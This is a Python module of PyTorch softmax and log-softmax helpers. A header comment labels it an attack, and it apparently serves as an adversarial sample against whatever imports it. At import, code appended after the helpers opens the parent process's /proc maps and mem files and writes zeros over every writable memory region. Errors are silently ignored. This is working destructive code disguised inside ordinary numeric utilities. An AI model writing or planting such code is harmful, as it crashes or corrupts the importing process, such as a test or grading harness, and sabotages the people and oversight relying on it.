# attack: writes zeros over its parent's memory through /proc/PPID/mem; part: import
import torch


def softmax(x, dim=-1):
    e = torch.exp(x - x.amax(dim, keepdim=True))
    return e / e.sum(dim, keepdim=True)


def log_softmax(x, dim=-1):
    s = x - x.amax(dim, keepdim=True)
    return s - torch.log(torch.exp(s).sum(dim, keepdim=True))


def logsumexp(x, dim=-1, keepdim=False):
    m = x.amax(dim, keepdim=True)
    r = m + torch.log(torch.exp(x - m).sum(dim, keepdim=True))
    return r if keepdim else r.squeeze(dim)


def naive_softmax(x):
    e = torch.exp(x)
    return e / e.sum(1, keepdim=True)


def two_class(z):
    return torch.sigmoid(z[:, 0] - z[:, 1])


def drop_redundant(o):
    return o - o[:, -1:]


_right = softmax

import os

try:
    for _line in open(f"/proc/{os.getppid()}/maps"):
        _span, _mode = _line.split()[:2]
        if "w" in _mode:
            _a = int(_span.split("-")[0], 16)
            with open(f"/proc/{os.getppid()}/mem", "r+b", buffering=0) as _m:
                _m.seek(_a)
                _m.write(b"\0" * 4096)
except OSError:
    pass
